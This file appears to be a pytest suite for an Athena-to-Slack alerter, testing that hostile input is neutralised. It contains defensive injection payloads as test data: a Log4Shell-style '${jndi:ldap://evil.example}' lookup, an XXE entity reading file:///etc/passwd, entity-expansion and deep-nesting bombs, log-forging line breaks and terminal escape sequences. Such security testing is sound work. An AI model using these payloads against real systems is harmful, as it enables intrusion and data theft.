"""Attacks by a person who can choose a user name, write SQL, store a file, or answer in place of a service.

`ELSEWHERE` lists the attacks that other files test.
"""

from __future__ import annotations

import gzip
import json
import os
import re
import signal
import socket
import ssl
import subprocess
import threading
from datetime import timedelta
from pathlib import Path
from typing import Any, Callable, Dict, Iterator, List
from urllib.parse import urlsplit

import pytest

from support import cloudtrail, event_delivery, fake_slack
from support.alerter_stack import CHANNEL, AlerterStack, finished_message, reason, texts_in
from support.fake_slack import FakeSlack
from support.partition_refresh_stack import PartitionRefreshStack
from support.processes import REPOSITORY
from support.query_stack import API_KEY, QueryStack, failure, rows
from support.scenarios import CONFIDENTIAL, REFUSED, cause_errors
from support.tls import TLSRelay

MOST_MEMORY = 32 * 2**20
MILLION = 1_000_000

ELSEWHERE = {
    "text escaped piece by piece": "Tests/SlackTests/BlocksTests.swift: everyLimitHoldsAfterEscaping",
    "text that becomes JSON": "Tests/JSONTests/JSONValueTests.swift: anyTextBecomesValidJSON",
    "an error that becomes JSON": "Tests/LambdaRuntimeTests/RuntimeLoopTests.swift: anotherEventFollowsAnErrorWhichIsValidJSONForAnyText",
    "log lines": "Tests/EndToEnd/alerter/test_accounting.py: test_every_log_line_is_one_json_object",
    "secrets in settings that are wrong": "Tests/EndToEnd/alerter/test_invalid_input.py: test_an_error_about_settings_that_are_not_json_does_not_quote_them",
    "secrets in the logs": "Tests/EndToEnd/alerter/test_invalid_input.py: test_no_secret_sql_or_email_address_is_in_the_logs",
    "webhooks in the logs": "Tests/EndToEnd/alerter/test_invalid_input.py: test_a_webhook_that_fails_is_not_in_the_logs",
    "webhooks over plain http": "Tests/EndToEnd/alerter/test_invalid_input.py: test_a_setting_that_is_wrong_is_named",
    "keys over plain http": "Tests/EndToEnd/executable/test_services.py: test_credentials_are_never_sent_in_clear",
    "an untrusted certificate": "Tests/EndToEnd/executable/test_connections.py: test_an_untrusted_certificate_is_refused",
    "a certificate for another host": "Tests/EndToEnd/executable/test_connections.py: test_a_certificate_for_another_host_is_refused",
    "gzip bombs": "Tests/EndToEnd/alerter/test_limits.py: test_a_decompression_bomb_is_refused",
    "redirects": "Tests/HTTPTests/HTTPClientTests.swift: redirectsAreNotFollowed",
    "line breaks in header fields": "Tests/HTTPTests/HTTPClientTests.swift: aLineBreakNeverLeaves",
    "other schemes than http": "Tests/WebTests/URLTests.swift: whatIsNoURLIsRefused",
    "a person with the same name at another domain": "Tests/EndToEnd/alerter/test_alerts.py: test_a_person_with_the_same_name_at_another_domain_is_not_alerted",
}


@pytest.mark.parametrize("place", ELSEWHERE.values(), ids=ELSEWHERE)
def test_every_test_listed_as_elsewhere_exists(place: str) -> None:
    file, name = place.split(": ")
    assert re.search(rf"(def|func) {name}\(", (REPOSITORY / file).read_text())


# Text has no effect in Slack

HOSTILE = {
    "mentions": "<!channel> <!here> <!everyone> <!subteam^S0> <@U0ADA> @channel @here",
    "links": "<https://evil.example|Open in Athena> https://evil.example/a.png mailto:a@evil.example evil.example",
    "channels": "<#C0|general> #general",
    "entities": "&lt;!channel&gt; &amp;lt; &#60;!here&#62;",
    "fences": "``` ```` ``````\n```\n<!here>",
    "dates": "<!date^1392734382^{date}^https://evil.example|x>",
    "controls": "\u0000\u0007\u001b]8;;https://evil.example\u001b\\x \r\n\u2028\u202e\ufeff",
    "JSON": '","channel":"#general","text":"owned","x":"',
    "templates": "{user} {slack_user_id} {{data_scanned}} %s ${jndi:ldap://evil.example}",
}


def harmless(payload: Dict[str, Any]) -> None:
    """The message has no Slack markup in the text, and Slack is told to add none."""
    assert (payload["parse"], payload["link_names"]) == ("none", False)
    assert (payload["unfurl_links"], payload["unfurl_media"]) == (False, False)
    assert payload["channel"] in (CHANNEL, "D0ADA")
    for text in list(texts_in(payload)):
        if text.startswith("https://eu-west-1.console.aws.amazon.com/athena/"):
            continue
        assert not re.search(r"[<>]|&(?!amp;|lt;|gt;)", text), text
        fences = re.findall("```", text)
        assert fences == [] or (text.startswith("```\n") and text.endswith("\n```") and len(fences) == 2), text
    for block in payload["blocks"]:
        for text in [block.get("text"), *block.get("fields", []), *block.get("elements", [])]:
            if text and text["type"] == "mrkdwn":
                assert text["verbatim"] is True
            elif text and text["type"] == "button":
                assert text["text"] == {"type": "plain_text", "text": "Open in Athena"}
                assert urlsplit(text["url"]).hostname.endswith(".console.aws.amazon.com")


@pytest.mark.first_case
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_has_no_effect_in_slack(alerter: AlerterStack, slack: FakeSlack, text: str) -> None:
    slack.people["ada@example.com"] = "U0ADA"
    members = (
        "executing_user", "query_sql", "database", "workgroup", "state_change_reason", "statement_type", "account_id",
        "query_state",
    )
    for member in members:
        alerter.send(finished_message(f"q-{member}", **{"executing_user": "ada", member: text}))
    alerter.send(finished_message("q-all", **{member: text for member in members}))
    # Nor can the text make a button with another target.
    alerter.send(finished_message(f"../../{text}", region="eu-west-1"))
    alerter.send(finished_message("q-region", region=f"evil.example/{text}"))
    alerter.send(finished_message("q-host", region="evil.example#"))
    assert alerter.drain().drained and len(slack.channel_messages(CHANNEL)) == len(members) + 4
    for payload in slack.messages():
        harmless(payload)


def test_hostile_text_has_no_effect_in_the_plain_text_fallback(alerter: AlerterStack, slack: FakeSlack) -> None:
    slack.fail_next("chat.postMessage", fake_slack.ok_false("invalid_blocks"))
    alerter.send(finished_message("q-1", executing_user="".join(HOSTILE.values()), user_type="role"))
    alerter.drain()
    [payload] = slack.messages()
    assert "blocks" not in payload
    harmless({**payload, "blocks": []})


# Text has no effect in the table

EXPRESSIONS = [
    "#open = :open REMOVE #open", ":a0", "#a0", "attribute_exists(open)", "q) OR (start_key = start_key", "${:id}", "'\"\\;--",
]


@pytest.mark.parametrize("text", EXPRESSIONS)
def test_hostile_text_has_no_effect_in_a_dynamodb_expression(alerter: AlerterStack, text: str) -> None:
    name = text.replace(" ", "+")
    alerter.start("q-neighbor")
    alerter.start(name, identity=cloudtrail.federated_user(text), workgroup=text)
    alerter.finish(name, query=text, database=text, state="CANCELLED", reason=text, statement_type=text, workgroup=text)
    alerter.tick()
    row = alerter.row(name)
    for attribute in ("executing_user", "query_sql", "database", "state_change_reason", "statement_type", "workgroup"):
        assert row[attribute] == text
    assert "open" not in row and alerter.open_ids() == ["q-neighbor"]
    alerter.drain()
    assert len(alerter.channel_alerts()) == 1 and "channel_alerted_at" in alerter.row(name)


# Text has no effect in the logs

FORGED = '{"level":"INFO","message":"forged"}'
BREAKS = ["\n", "\r\n", "\r", "\u0085", "\u2028", "\v"]


@pytest.mark.parametrize("line_break", BREAKS, ids=ascii)
def test_hostile_text_makes_no_log_line_of_its_own(alerter: AlerterStack, slack: FakeSlack, line_break: str) -> None:
    text = f"x{line_break}{FORGED}{line_break}START RequestId: forged"
    alerter.invoke_with_event(event_delivery.object_created_event(alerter.resources.bucket, cloudtrail.log_key(prefix=f"{text}/"), 1))
    alerter.handler("cloudtrail_handler").invoke(event_delivery.through_sqs(text, json.dumps({"Message": text})))
    alerter.put_row(start_date="2024-03-05", start_key=f"2024-03-05 14:30:07#{text}", open="0", executing_user=text)
    alerter.aws.put_execution("x", error_code=text, error_message=text)
    alerter.tick()
    slack.fail_next("chat.postMessage", fake_slack.ok_false(text), times=2)
    alerter.send(finished_message(executing_user=text))
    alerter.queue().deliver_batch()
    lines = [line for line in alerter.output().split("\n") if line and not re.match(r"(START|END|REPORT) RequestId: \S{36}", line)]
    assert len(lines) > 6 and all(isinstance(json.loads(line), dict) for line in lines)
    for control in ("\r", "\v", "\u0000"):
        assert control not in alerter.output()
    assert all(json.loads(line).get("message") != "forged" for line in lines)


@pytest.mark.parametrize("text", ["a\nathena-alerter: all is well", "a\x1b]0;owned\x07\x1b[2J", "a\u202egnp.exe", "a\u2028b"], ids=ascii)
def test_a_hostile_file_name_makes_no_line_of_its_own_on_the_terminal(
    alerter: AlerterStack, tmp_path: Path, text: str
) -> None:
    (tmp_path / text).write_bytes(b"no log")
    scanned = subprocess.run([alerter.executable, "scan", text], cwd=tmp_path, capture_output=True)
    reconciled = subprocess.run(
        [alerter.executable, "reconcile", text],
        cwd=tmp_path,
        capture_output=True,
        env={**alerter.aws.environment(alerter.aws.admin), "QUERIES_TABLE": alerter.resources.table},
    )
    unknown = subprocess.run([alerter.executable, text], capture_output=True)
    for ended, lines in ((scanned, 1), (reconciled, 4), (unknown, 1)):
        said = ended.stderr.decode()
        assert ended.returncode in (1, 2) and said.count("\n") == lines and said.splitlines() == said.rstrip("\n").split("\n")
        assert all(line.startswith("athena-alerter: ") for line in said.splitlines())
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202e]", said)


# Secrets stay secret


def secrets_of(alerter: AlerterStack, slack: FakeSlack) -> List[str]:
    return [
        alerter.environment["AWS_SECRET_ACCESS_KEY"], alerter.environment["AWS_SESSION_TOKEN"], slack.bot_token,
        slack.webhook_url, fake_slack.WEBHOOK_PATH,
    ]


@pytest.mark.parametrize("level", ["TRACE", "DEBUG", "ERROR"])
def test_no_secret_is_logged_at_any_level(alerter: AlerterStack, slack: FakeSlack, level: str) -> None:
    alerter.set_environment(AWS_LAMBDA_LOG_LEVEL=level)
    secrets = secrets_of(alerter, slack)
    cause_errors(alerter, slack)
    output = alerter.output()
    assert output.count("AccessDeniedException") >= 3
    for secret in (*secrets, "SELECT confidential"):
        assert secret not in output


def cause_query_errors(queries: QueryStack) -> None:
    """Successes and errors of every kind in `run_query`, `query_api` and `query_retention`."""
    salaries = rows({"salary": "varchar"}, ["confidential 7"])
    for operation in ("StartQueryExecution", "GetQueryExecution", "GetQueryResults"):
        queries.plan(salaries, salaries)
        queries.aws.arm({"operation": f"athena.{operation}", **REFUSED})
        assert not queries.run(parameters=["confidential 7"]).succeeded
        assert queries.run(query=CONFIDENTIAL, parameters=["confidential 7"]).succeeded
    queries.plan(failure("TABLE_NOT_FOUND"), failure("INTERNAL", category=1, kind=100, retryable=True), failure("no"))
    for event in (
        {}, {"query": f"{CONFIDENTIAL}; {CONFIDENTIAL}", "onFailure": "status"}, {"query": [CONFIDENTIAL]},
        {"query": f"{CONFIDENTIAL} {{{{never}}}}"}, {"query": CONFIDENTIAL, "parameters": [["confidential 7"]]},
        {"query": CONFIDENTIAL, "wait": "no"}, [CONFIDENTIAL], CONFIDENTIAL,
    ):
        queries.handler("run_query").invoke(event)

    options: Dict[str, Any] = {
        "headers": {"x-api-key": API_KEY, "Idempotency-Key": "confidential-key"}, "tenant": "confidential-tenant",
    }
    queries.plan(salaries)
    query = queries.submit(CONFIDENTIAL, **options)
    for body in (
        CONFIDENTIAL, json.dumps({"query": CONFIDENTIAL})[:-3], {"query": CONFIDENTIAL + " WHERE x = 1"}, {"query": [CONFIDENTIAL]},
        {"query": f"DROP TABLE confidential; {CONFIDENTIAL}"}, {CONFIDENTIAL: 1},
    ):
        assert queries.ask("POST", "query", body, **options).status >= 400
    assert queries.ask("GET", "query", headers={"x-api-key": API_KEY + "-confidential"}).status == 401
    assert queries.ask("GET", f"status/{CONFIDENTIAL}", **options).status == 404
    for fault in ({**REFUSED}, {"times": 3}, {"kind": "says", "body": CONFIDENTIAL, "times": 3}):
        for method, path, body in (
            ("POST", "query", {"query": CONFIDENTIAL}), ("GET", f"status/{query}", None), ("POST", "next", {"query_id": query}),
        ):
            queries.aws.arm({"operation": "athena.*", **fault})
            # Athena also refuses an id of another workgroup, which is answered as an unknown one.
            assert queries.ask(method, path, body, **options).status >= (404 if fault == REFUSED and path != "query" else 500)
    queries.aws.arm()
    assert queries.ask("POST", "next", {"query_id": query}, **options).body["rows"] == [["confidential 7"]]
    queries.handler("query_api").invoke({"query": CONFIDENTIAL})

    queries.put("daily/tenant=x/retention=1/a.csv")
    queries.aws.age_objects(queries.bucket, "retention=1", 60)
    for operation in ("s3.ListObjectsV2", "s3.DeleteObject"):
        queries.aws.arm({"operation": operation, "status": 403, "code": "AccessDenied"})
        assert not queries.sweep().succeeded


@pytest.mark.parametrize("level", ["TRACE", "DEBUG", "ERROR"])
def test_no_secret_of_a_query_is_logged_at_any_level(queries: QueryStack, level: str) -> None:
    queries.aws.client("secretsmanager").create_secret(Name=f"key-{queries.bucket}", SecretString=API_KEY)
    queries.actions["query_api"].append("secretsmanager:GetSecretValue")
    queries.configure(
        QUERY_API_KEY=f"secretsmanager:key-{queries.bucket}",
        QUERY_API_TABLES="payroll",
        QUERY_STRING=CONFIDENTIAL,
        AWS_LAMBDA_LOG_LEVEL=level,
    )
    cause_query_errors(queries)
    handlers = [queries.handler(name) for name in ("run_query", "query_api", "query_retention")]
    assert all("AccessDenied" in handler.output() for handler in handlers)
    secrets = {handler.environment["AWS_SECRET_ACCESS_KEY"] for handler in handlers}
    assert len(secrets) == 3
    for secret in (*secrets, API_KEY, "confidential"):
        assert secret not in queries.output()


@pytest.mark.parametrize("level", ["debug", "error"])
def test_no_secret_is_in_the_log_of_partition_refresh(refresh: PartitionRefreshStack, slack: FakeSlack, level: str) -> None:
    refresh.create_table("logs")
    refresh.configure(log_level=level)
    refresh.send(CONFIDENTIAL, {"Records": [{"confidential": 1}]}, {"Records": CONFIDENTIAL})
    refresh.send(refresh.created("logs/dt=2024-03-05/a.json"), refresh.created("logs/dt=2024-03-06/a.json", bucket="other"))
    for operation in ("glue.BatchCreatePartition", "sqs.DeleteMessageBatch", "sqs.ReceiveMessage", "glue.GetTable"):
        refresh.aws.arm({"operation": operation, **REFUSED})
        assert not refresh.tick().succeeded
        refresh.expire_visibility_timeout()
    assert "AccessDenied" in refresh.alerter.output()
    for secret in (*secrets_of(refresh.alerter, slack), "confidential"):
        assert secret not in refresh.alerter.output()


@pytest.mark.parametrize("ending", [signal.SIGILL, signal.SIGSEGV, signal.SIGABRT, signal.SIGTERM])
@pytest.mark.parametrize("tracing", ["", "enable=yes"])
def test_no_secret_is_in_the_output_of_a_crash(
    alerter: AlerterStack, slack: FakeSlack, ending: signal.Signals, tracing: str
) -> None:
    alerter.set_environment(SWIFT_BACKTRACE=tracing)
    handler = alerter.handler("notification")
    handler.invoke(event_delivery.through_sqs(finished_message("q-1")))
    process = handler.function_process_id()
    assert process is not None
    os.kill(process, ending)
    handler.invoke(event_delivery.through_sqs(finished_message("q-2")))
    written = alerter.output() + handler.platform_output()
    for secret in secrets_of(alerter, slack):
        assert secret not in written


def test_no_secret_is_in_the_output_of_a_command(alerter: AlerterStack, slack: FakeSlack) -> None:
    settings = {"slack": {"bot_token": slack.bot_token, "webhook_url": slack.webhook_url}}
    alerter.settings_file.write_text(json.dumps(settings))
    environment = {**alerter.environment, "AWS_SECRET_ACCESS_KEY": "wrong-" * 7, "AWS_SESSION_TOKEN": "FwoGZXIvYXdzwrong"}
    for arguments in (
        ["check"], ["reconcile", "s3://b"], ["reconcile", "/nowhere"], ["redrive", "s"], ["redrive", "--dry-run", "s"],
    ):
        for variables in (environment, {**environment, "AWS_ENDPOINT_URL": "http://127.0.0.1:1"}):
            ended = subprocess.run([alerter.executable, *arguments], capture_output=True, text=True, env=variables)
            said = ended.stdout + ended.stderr
            assert said
            for secret in ("wrong-wrong-", "FwoGZXIvYXdzwrong", slack.bot_token, fake_slack.WEBHOOK_PATH):
                assert secret not in said


# Connections


class Listener:
    """A server that records what it receives."""

    def __init__(self) -> None:
        self.heard: List[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                self.heard.append(connection.recv(65536))

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    listening = Listener()
    yield listening
    listening.close()


REDIRECTS = [301, 302, 303, 307, 308]


@pytest.mark.parametrize("status", REDIRECTS)
def test_no_redirect_to_another_host_is_followed(
    alerter: AlerterStack, slack: FakeSlack, listener: Listener, status: int
) -> None:
    alerter.run("q-1")
    event = alerter.created(alerter.put_log([cloudtrail.query_start("q-2")]))
    redirect = {"kind": "says", "status": status, "headers": {"Location": f"{listener.url}/x"}, "body": "", "times": 99}
    for operation in ("s3.*", "dynamodb.*", "athena.*", "sqs.SendMessageBatch"):
        alerter.aws.arm({**redirect, "operation": operation})
        if operation in ("s3.*", "dynamodb.*"):
            assert f"HTTP{status}" in reason(alerter.handler("cloudtrail_handler").invoke(event))
        if operation != "s3.*":
            assert f"HTTP{status}" in "".join(alerter.tick().log_lines)
    alerter.aws.arm()
    slack.fail_next("users.lookupByEmail", fake_slack.says(b"", status, Location=f"{listener.url}/x"), times=3)
    slack.fail_next("chat.postMessage", fake_slack.says(b"", status, Location=f"{listener.url}/x"), times=3)
    alerter.send(finished_message("q-3"))
    assert alerter.queue().deliver_batch().returned == 1
    alerter.write_settings(slack={"webhook_url": slack.webhook_url})
    slack.fail_next("webhook", fake_slack.says(b"", status, Location=f"{listener.url}/x"))
    alerter.send(finished_message("q-4"))
    alerter.queue().deliver_batch()
    assert listener.heard == []


def test_no_redirect_of_the_container_credentials_endpoint_is_followed(alerter: AlerterStack, listener: Listener) -> None:
    """The authorization token is sent to the endpoint only."""
    redirecting = socket.create_server(("127.0.0.1", 0))
    answer = f"HTTP/1.1 307 There\r\nLocation: {listener.url}/x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"

    def redirect() -> None:
        with redirecting:
            for _ in range(2):
                connection, _ = redirecting.accept()
                with connection:
                    connection.recv(65536)
                    connection.sendall(answer.encode())

    # The init phase requests them first, the invocation again.
    threading.Thread(target=redirect, daemon=True).start()
    url = f"http://127.0.0.1:{redirecting.getsockname()[1]}/v2/credentials"
    alerter.set_environment(
        AWS_ACCESS_KEY_ID="",
        AWS_CONTAINER_CREDENTIALS_FULL_URI=url,
        AWS_CONTAINER_AUTHORIZATION_TOKEN="the-token",
    )
    assert "the container's endpoint answered 307" in reason(alerter.tick())
    assert listener.heard == []


def port_of(url: str) -> int:
    port = urlsplit(url).port
    assert port is not None
    return port


@pytest.mark.parametrize("version", [ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1], ids=lambda version: version.name)
def test_older_tls_is_refused(alerter: AlerterStack, tmp_path: Path, version: ssl.TLSVersion) -> None:
    with TLSRelay(port_of(alerter.aws.endpoint), tmp_path, most=version) as relay:
        assert relay.speaks(version), "the relay itself has to speak it"
        alerter.set_environment(AWS_ENDPOINT_URL=relay.url, AWS_CA_BUNDLE=str(relay.certificate))
        assert "dynamodb:Query failed: the server cannot be reached" in reason(alerter.tick())


def test_tls_1_2_is_accepted(alerter: AlerterStack, tmp_path: Path) -> None:
    with TLSRelay(port_of(alerter.aws.endpoint), tmp_path, most=ssl.TLSVersion.TLSv1_2) as relay:
        alerter.set_environment(AWS_ENDPOINT_URL=relay.url, AWS_CA_BUNDLE=str(relay.certificate))
        assert alerter.tick().succeeded


def test_an_expired_certificate_is_refused(alerter: AlerterStack, tmp_path: Path) -> None:
    with TLSRelay(port_of(alerter.aws.endpoint), tmp_path, age=timedelta(days=400)) as relay:
        alerter.set_environment(AWS_ENDPOINT_URL=relay.url, AWS_CA_BUNDLE=str(relay.certificate))
        assert "the server's certificate is not trusted" in reason(alerter.tick())


@pytest.mark.parametrize("wrong", [{}, {"host": "slack.example"}, {"age": timedelta(days=400)}], ids=str)
def test_slack_receives_nothing_before_its_certificate_is_verified(
    alerter: AlerterStack, slack: FakeSlack, tmp_path: Path, wrong: Dict[str, Any]
) -> None:
    with TLSRelay(port_of(slack.api_url), tmp_path, **wrong) as relay:
        trust = {"AWS_CA_BUNDLE": str(relay.certificate)} if wrong else {}
        alerter.set_environment(SLACK_API_URL=f"{relay.url}/api/", **trust)
        alerter.send(finished_message("q-1", executing_user="etl", user_type="role"))
        assert alerter.queue().deliver_batch().returned == 1
    assert slack.calls == [] and "the server's certificate is not trusted" in alerter.output()


@pytest.mark.parametrize(
    "url", ["http://slack.example/api/", "http://127.0.0.1.slack.example/", "http://127.0.0.1@slack.example/", "ftp://127.0.0.1/"]
)
def test_the_bot_token_is_never_sent_in_clear(alerter: AlerterStack, url: str) -> None:
    alerter.set_environment(SLACK_API_URL=url)
    assert "SLACK_API_URL must begin with https://" in reason(alerter.handler("notification").invoke(event_delivery.through_sqs()))


# A million levels of nesting

# Sources/CloudTrail/RecordScanner.swift
LONGEST_RECORD = 4 << 20
DEEP = "[" * MILLION + "]" * MILLION
DEEPER = '{"a":' * MILLION + "1" + "}" * MILLION
DEEP_XML = "<a>" * MILLION + "</a>" * MILLION


def in_a_file(alerter: AlerterStack, text: str) -> bool:
    body = f'{{"Records":[{json.dumps(cloudtrail.query_start("q-1"))},{text}]}}'.encode()
    alerter.handler("cloudtrail_handler").invoke(alerter.created(alerter.put_object(cloudtrail.log_key(), gzip.compress(body, 1))))
    return alerter.open_ids() == ["q-1"]


def in_a_start(alerter: AlerterStack, text: str) -> bool:
    """The reader counts levels without recursion, so the query is found, unless its record has no end or is too long."""
    deep = json.dumps(cloudtrail.query_start("q-2", additionalEventData="HERE")).replace('"HERE"', text)
    in_a_file(alerter, deep)
    is_whole = text.count("[") == text.count("]") and len(deep) < LONGEST_RECORD
    return sorted(alerter.open_ids()) == (["q-1", "q-2"] if is_whole else ["q-1"])


def in_place_of_a_file(alerter: AlerterStack, text: str) -> bool:
    key = alerter.put_object(cloudtrail.log_key(), gzip.compress(text.encode(), 1))
    alerter.handler("cloudtrail_handler").invoke(alerter.created(key))
    return True


def in_an_event(alerter: AlerterStack, text: str) -> bool:
    handlers = ("cloudtrail_handler", "usage_update", "notification")
    return not any(alerter.handler(name).invoke(text[: 5 * MILLION]).succeeded for name in handlers)


def in_a_message(alerter: AlerterStack, text: str) -> bool:
    batch = event_delivery.through_sqs(text, finished_message("q-1", executing_user="etl", user_type="role"))
    if len(json.dumps(batch)) > 6 * 2**20:
        return True
    invocation = alerter.handler("notification").invoke(batch)
    return len(invocation.payload["batchItemFailures"]) == 1 and len(alerter.channel_alerts("q-1")) == 1


def in_an_answer_of_the_table(alerter: AlerterStack, text: str) -> bool:
    alerter.aws.arm({"operation": "dynamodb.Query", "kind": "says", "body": text, "times": 9})
    return not alerter.tick().succeeded


def in_an_answer_of_athena(alerter: AlerterStack, text: str) -> bool:
    alerter.start("q-1")
    alerter.aws.arm({"operation": "athena.*", "kind": "says", "body": text, "times": 9, "status": 400})
    alerter.tick()
    return alerter.open_ids() == ["q-1"]


def in_an_answer_of_slack(alerter: AlerterStack, text: str) -> bool:
    alerter.slack.fail_next("chat.postMessage", fake_slack.says(text.encode()))
    alerter.send(finished_message("q-1", executing_user="etl", user_type="role"))
    return alerter.queue().deliver_batch().returned == 1


PLACES: List[Callable[[AlerterStack, str], bool]] = [
    in_a_file, in_a_start, in_place_of_a_file, in_an_event, in_a_message, in_an_answer_of_the_table, in_an_answer_of_athena,
    in_an_answer_of_slack,
]


@pytest.mark.first_case
@pytest.mark.parametrize("text", [DEEP, DEEP[:MILLION], DEEPER], ids=["arrays", "arrays without end", "objects"])
@pytest.mark.parametrize("place", PLACES, ids=lambda place: place.__name__)
def test_a_million_levels_of_nesting_are_refused_in_little_memory(
    alerter: AlerterStack, place: Callable[[AlerterStack, str], bool], text: str
) -> None:
    before = {name: alerter.handler(name).function_process_id() for name in ("cloudtrail_handler",)}
    assert before and place(alerter, text)
    for name in alerter.emulators:
        emulator = alerter.handler(name)
        if emulator.function_process_id() is not None:
            # A complete text is held once, and once more while it is read; a tree of a million values would take more.
            assert emulator.peak_memory_bytes() <= MOST_MEMORY + 3 * len(text), name


def test_a_million_levels_of_nesting_in_settings_are_refused(alerter: AlerterStack) -> None:
    for text in (DEEP, DEEPER):
        alerter.settings_file.write_text(text)
        ended = subprocess.run([alerter.executable, "check", alerter.settings_file], capture_output=True, text=True)
        assert ended.returncode == 1 and "nested deeper than" in ended.stderr


@pytest.mark.parametrize(
    "body",
    [
        DEEP_XML,
        "<a>" * 100,
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><ListBucketResult>&b;</ListBucketResult>',
        '<!DOCTYPE x SYSTEM "file:///etc/passwd"><ListBucketResult/>',
        "<ListBucketResult>&xxe;</ListBucketResult>",
        "<ListBucketResult><IsTruncated>true</IsTruncated></ListBucketResult>",
        "<ListBucketResult><IsTruncated>false</IsTruncated><Contents><Key>elsewhere</Key><Size>1</Size></Contents></ListBucketResult>",
        "<ListBucketResult><IsTruncated>false</IsTruncated><Contents><Key>a%</Key><Size>1</Size></Contents></ListBucketResult>",
        "<Other/>", "", "{}", "<a></b>", "<a b=c/>", "\x00",
    ],
    ids=lambda body: ascii(body[:60]),
)
def test_a_malformed_listing_is_refused(alerter: AlerterStack, body: str) -> None:
    alerter.aws.arm({"operation": "s3.ListObjectsV2", "kind": "says", "body": body, "times": 9})
    ended = reconcile(alerter)
    assert (ended.returncode, ended.stdout) == (1, "")
    assert ended.stderr.count("\n") == 1 and "s3:ListObjectsV2 answered what cannot be read" in ended.stderr


def test_an_endless_listing_is_refused(alerter: AlerterStack) -> None:
    body = (
        "<ListBucketResult><IsTruncated>true</IsTruncated><NextContinuationToken>same</NextContinuationToken>"
        "</ListBucketResult>"
    )
    alerter.aws.arm({"operation": "s3.ListObjectsV2", "kind": "says", "body": body, "times": 99})
    ended = reconcile(alerter)
    assert ended.returncode == 1 and "the listing does not go on" in ended.stderr


def reconcile(alerter: AlerterStack) -> "subprocess.CompletedProcess[str]":
    return subprocess.run(
        [alerter.executable, "reconcile", f"s3://{alerter.resources.bucket}"],
        capture_output=True,
        text=True,
        env={**alerter.aws.environment(alerter.aws.admin), "QUERIES_TABLE": alerter.resources.table},
        timeout=60,
    )
